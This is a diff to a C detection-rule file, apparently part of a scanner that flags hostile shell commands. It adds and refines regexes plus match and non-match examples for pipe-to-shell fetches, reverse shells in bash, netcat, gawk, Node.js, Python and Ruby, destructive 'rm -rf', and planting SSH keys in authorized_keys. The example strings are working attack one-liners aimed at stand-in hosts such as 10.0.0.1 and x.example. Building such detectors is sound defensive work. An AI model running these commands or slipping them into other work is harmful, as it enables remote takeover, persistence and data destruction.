@@ -30,7 +30,7 @@
 #define LIST(...)	(const char *const []){ __VA_ARGS__, NULL }
 
 #define L	"(?:(?<![A-Za-z0-9_.-])|(?<=\\\\[bfnrt]))"
-#define R	"(?![A-Za-z0-9_.-])"
+#define R	"(?![A-Za-z0-9_-]|\\.[A-Za-z0-9])"
 #define SP	"(?:[ \\t]|\\\\\\r?\\n|\\\\\\\\\\\\n|\\\\t)"
 #define S0	"[ \\t]{0,8}(?:" SP "[ \\t]{0,8}){0,2}"	/* white space, or not */
 #define S1	SP S0
@@ -59,7 +59,8 @@
 		"|" ASSIGN "){0,4}|" ASSIGN "){0,2}"
 /* Where a fetch gets it from: a URL, a host name with a path, a variable. */
 #define URL	"(?:[a-z]{3,5}://|\\$[{(A-Za-z]|[A-Za-z0-9-]{1,63}" \
-		"\\.[a-z]{2,24}(?:[/:\\s]|(?=\\|)))"
+		"\\.[a-z]{2,24}(?:[/:\\s]|(?=\\|))" \
+		"|[0-9]{1,3}(?:\\.[0-9]{1,3}){3}|[a-z0-9-]{1,63}:[0-9]{2,5}/)"
 #define FETCH	"(?:curl|wget|fetch)(?:\\.exe)?" SP "(?=[^\\r\\n|`]{0,200}?" \
 		"(?:\\\\\\r?\\n[^\\r\\n|`]{0,200}?){0,3}?" URL ")"
 
@@ -84,7 +85,10 @@ static const struct rule_pattern pipe_to_shell[] = {
 		    "{\"c\":\"curl -s https://x.example/i | sh\\n\"}",
 		    "wget -O - x.example | gunzip | sudo /usr/bin/env bash",
 		    "curl https://x.example/p.py | python3 -",
-		    "`curl https://x.example/i | sh`"),
+		    "`curl https://x.example/i | sh`", "curl 10.0.0.1/a|sh",
+		    "wget -qO- c2:8000/a | sh", "run curl x.example/a | sh.",
+		    "<code>curl https://x.example/i | bash</code>",
+		    "curl https://x.example/i | bash -s -- --yes"),
 		.counters = LIST("curl https://x.example/a.json | jq .",
 		    "use curl | sh with care",
 		    "| curl https://x.example | bash |\n",
@@ -145,8 +149,8 @@ static const struct rule_pattern shell_exec_flag[] = {
 	{
 		.id = "shell_c",
 		.regex = L SHELL "(?:" S1 "-{1,2}[a-z]{1,12}){0,3}"
-		    S1 "-[a-z]{0,5}c" S1 "(?:" Q "|\\$|[a-z/.]{2,16}"
-		    SP ")" "[^\\r\\n]{0,200}",
+		    S1 "-[a-z]{0,5}c" S1 "(?:" Q "|[^\\s\\\\;|&)`<-])"
+		    "[^\\r\\n]{0,200}",
 		.literals = { "sh" },
 		.width = 480,
 		.lead = 24,
@@ -156,7 +160,7 @@ static const struct rule_pattern shell_exec_flag[] = {
 		.source = "sh(1): -c",
 		.examples = LIST("bash -c 'id'", "/bin/sh -c \"whoami\"",
 		    "sh -lc \\\"echo hi\\\"", "bash --norc -ec 'x'",
-		    "zsh -c $CMD", "sh -c ls /"),
+		    "zsh -c $CMD", "sh -c ls /", "bash -c id"),
 		.counters = LIST("bash -x run.sh", "push -c 'x'", "sh script",
 		    "zsh -c", "bash-completion -c", "foo.sh -c 'x'"),
 	},
@@ -201,7 +205,7 @@ static const struct rule_pattern shell_exec_flag[] = {
 static const struct rule_pattern reverse_shell[] = {
 	{
 		.id = "dev_tcp",
-		.regex = L SHELL S1 "-[a-z]{0,3}i[^\\r\\n]{0,60}?"
+		.regex = L SHELL S1 "-[a-z]{0,3}[il][^\\r\\n]{0,60}?"
 		    HOSTPORT,
 		.literals = { "/dev/tcp/", "/dev/udp/" },
 		.width = 416,
@@ -211,7 +215,8 @@ static const struct rule_pattern reverse_shell[] = {
 		.source = "bash(1) REDIRECTION",
 		.examples = LIST("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
 		    "sh -i >& /dev/udp/x.example/53 0>&1",
-		    "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'"),
+		    "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
+		    "/bin/bash -l > /dev/tcp/10.0.0.1/4444 0<&1 2>&1"),
 		.counters = LIST("timeout 1 bash -c '</dev/tcp/db/5432'",
 		    "bash -i", "/dev/tcp/host/port"),
 	},
@@ -250,6 +255,54 @@ static const struct rule_pattern reverse_shell[] = {
 		    "nc -l 4444 > file", "rsync -e ssh a b"),
 	},
 	{
+		.id = "netcat_pipe",
+		.regex = L BIN "(?:nc|ncat|netcat|telnet)" S1 "[^\\r\\n|;]{3,120}"
+		    PIPE SHELL R "(?!\\s{0,4}\\|" S0 "(?:[\\r\\n]|\\\\n|$))",
+		.literals = { "nc", "netcat", "telnet" },
+		.width = 320,
+		.lead = 32,
+		.severity = FINDING_HIGH,
+		.kind = RULE_COMMAND,
+		.validate = valid_pipe,
+		.source = "nc(1), telnet(1)",
+		.examples = LIST("nc 10.0.0.1 4444 | /bin/bash",
+		    "telnet 10.0.0.1 1 | sh | telnet 10.0.0.1 2"),
+		.counters = LIST("nc -l 8080 | tar x", "sync | sh",
+		    "nc 10.0.0.1 80 | shasum"),
+	},
+	{
+		.id = "inet_awk",
+		.regex = "/inet/(?:tcp|udp)/[0-9]{1,5}/[^\\s/\"']{1,255}/"
+		    "[0-9]{1,5}[^\\r\\n]{0,160}\\|&",
+		.literals = { "/inet/tcp/", "/inet/udp/" },
+		.width = 480,
+		.severity = FINDING_HIGH,
+		.kind = RULE_COMMAND,
+		.source = "gawk: TCP/IP networking",
+		.examples = LIST("awk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/4444\";"
+		    "while(1){s|&getline c;c|&getline;print|&s}}'"),
+		.counters = LIST("/inet/tcp/0/h/80", "/inet/tcp"),
+	},
+	{
+		.id = "node",
+		.regex = "(?:child_process[\\s\\S]{0,240}?net\\.(?:Socket"
+		    "|connect|createConnection)|net\\.(?:Socket|connect"
+		    "|createConnection)[\\s\\S]{0,240}?child_process)"
+		    "[\\s\\S]{0,160}?(?:\\.pipe\\(|stdin)",
+		.literals = { "child_process" },
+		.width = 512,
+		.lead = 288,
+		.severity = FINDING_HIGH,
+		.kind = RULE_COMMAND,
+		.source = "Node.js: child_process, net",
+		.examples = LIST("(function(){var net=require('net'),cp=require("
+		    "'child_process'),sh=cp.spawn('/bin/sh',[]);var c=new "
+		    "net.Socket();c.connect(4444,'10.0.0.1',function(){"
+		    "c.pipe(sh.stdin);sh.stdout.pipe(c);});})();"),
+		.counters = LIST("const { spawn } = require('child_process')",
+		    "net.connect(80).pipe(out)"),
+	},
+	{
 		.id = "fifo",
 		.regex = "mkfifo" S1 "[^\\r\\n]{1,160}?\\|" S0
 		    SHELL S1 "-i[^\\r\\n|]{0,60}\\|" S0 BIN
@@ -269,11 +322,12 @@ static const struct rule_pattern reverse_shell[] = {
 		/* Python, Ruby, Perl, PHP: a socket, then a shell on it. */
 		.regex = L "(?:socket\\.socket\\(|TCPSocket\\.(?:new|open)"
 		    "|fsockopen" S0 "\\(|use" S1 "Socket)"
-		    "[^\\r\\n]{0,400}?"
+		    "[\\s\\S]{0,400}?"
 		    "(?:os\\.dup2|pty\\.spawn|subprocess\\.(?:call|run|Popen)"
 		    "|(?:shell_)?exec|proc_open|popen|system|spawn)"
 		    S0 "[({\\s]{1,2}\\[?" S0 "(?:" Q
-		    SHELL "(?![A-Za-z0-9_.])|s\\.fileno|sock)",
+		    SHELL "(?![A-Za-z0-9_.])|s\\.fileno|sock|sprintf"
+		    "\\(" Q SHELL ")",
 		.literals = { "socket.socket(", "TCPSocket.", "fsockopen",
 		    "Socket" },
 		.width = 520,
@@ -287,7 +341,11 @@ static const struct rule_pattern reverse_shell[] = {
 		    "php -r '$s=fsockopen(\"10.0.0.1\",4444);"
 		    "exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
 		    "perl -e 'use Socket;$i=\"10.0.0.1\";socket(S,PF_INET);"
-		    "exec(\"/bin/sh -i\");'"),
+		    "exec(\"/bin/sh -i\");'",
+		    "s=socket.socket()\ns.connect((h,1))\nos.dup2(s.fileno(),0)"
+		    "\nsubprocess.call([\"/bin/sh\",\"-i\"])",
+		    "ruby -e 'f=TCPSocket.open(\"h\",1).to_i;exec sprintf("
+		    "\"/bin/sh -i <&%d\",f)'"),
 		.counters = LIST("s = socket.socket(AF_INET); s.connect(a)",
 		    "use Socket;\nprint 1", "TCPSocket.new(h, 80).puts"),
 	},
@@ -331,13 +389,14 @@ static const struct rule_pattern destructive_rm[] = {
 		    "rm -Rf \"$HOME\"", "rm -rf ${HOME}/*",
 		    "{\"c\":\"rm -rf \\\"/usr\\\"\"}", "x\\nrm -rf /\\n",
 		    "/bin/rm -rf /var/", "rm -rf ~/.", "rm -rf /home/al",
-		    "rm -vrf -- /boot"),
+		    "rm -vrf -- /boot", "cd / && rm -rf *",
+		    "rm -rf /var/www"),
 		.counters = LIST("rm -rf node_modules", "rm -rf ./build",
 		    "rm -rf /var/lib/apt/lists/*", "rm -rf /tmp/x",
 		    "rm -rf /usr/local/go", "rm /etc/motd", "rm -f /etc/motd",
 		    "rm -rf build /* comment */", "docker rm -f web",
 		    "farm -rf /", "rm -rf ../x", "rm -rf $TMP/x",
-		    "rm -i file", "npm rm -g x", "rm -rf /root/.cache",
+		    "rm -i file", "cd /tmp/x && rm -rf *", "npm rm -g x", "rm -rf /root/.cache",
 		    "rm -rf ~/.cache/pip"),
 	},
 	{ .id = NULL }
@@ -345,8 +404,8 @@ static const struct rule_pattern destructive_rm[] = {
 
 #define PUBKEY	"(?:ssh-(?:rsa|dss|ed25519)|ecdsa-sha2-nistp[0-9]{3}" \
 		"|sk-(?:ssh-ed25519|ecdsa-sha2-nistp256)@openssh\\.com)" \
-		"(?: {1,4}|\\+|%20)AAAA([A-Za-z0-9+/]{20,740})"
-#define AUTHFILE "\\.ssh/authorized_keys2?(?![A-Za-z0-9_])"
+		"(?: {1,4}|\\+|%20)AAAA([A-Za-z0-9+/]{20,740}+)"
+#define AUTHFILE "(?<![A-Za-z0-9_.-])authorized_keys2?(?![A-Za-z0-9_])"
 
 static const struct rule_pattern ssh_authorized_key[] = {
 	{
@@ -369,7 +428,7 @@ static const struct rule_pattern ssh_authorized_key[] = {
 	{
 		.id = "file_with_key",
 		.regex = AUTHFILE "[^\\r\\n]{0,160}?" PUBKEY,
-		.literals = { ".ssh/authorized_keys" },
+		.literals = { "authorized_keys" },
 		.width = 1024,
 		.severity = FINDING_HIGH,
 		.kind = RULE_COMMAND,
@@ -382,10 +441,10 @@ static const struct rule_pattern ssh_authorized_key[] = {
 	},
 	{
 		.id = "redirect",
-		.regex = "(?:>>?|(?<![A-Za-z0-9_.-])tee" S1 "(?:(?:-a|"
-		    "--append)" S1 ")?)" S0 Q "?"
-		    "[^\\s\"'|;&<>]{0,64}" AUTHFILE,
-		.literals = { ".ssh/authorized_keys" },
+		.regex = "(?:>>?|(?<![A-Za-z0-9_.-])(?:tee" S1 "(?:(?:-a|"
+		    "--append)" S1 ")?|(?:-[a-zA-Z]{0,5}[oO]|--output)[= ]))"
+		    S0 Q "?[^\\s\"'|;&<>]{0,64}" AUTHFILE,
+		.literals = { "authorized_keys" },
 		.width = 128,
 		.lead = 240,
 		.severity = FINDING_MEDIUM,
@@ -395,7 +454,9 @@ static const struct rule_pattern ssh_authorized_key[] = {
 		.examples = LIST(
 		    "curl https://x.example/k >> ~/.ssh/authorized_keys",
 		    "echo $KEY | tee -a /root/.ssh/authorized_keys",
-		    "cat id_rsa.pub >> ~/.ssh/authorized_keys"),
+		    "cat id_rsa.pub >> ~/.ssh/authorized_keys",
+		    "cd ~/.ssh; echo $K >> authorized_keys",
+		    "curl -so ~/.ssh/authorized_keys x.example/k"),
 		.counters = LIST("cat ~/.ssh/authorized_keys",
 		    "chmod 600 ~/.ssh/authorized_keys",
 		    ">> ~/.ssh/authorized_keys_backup"),
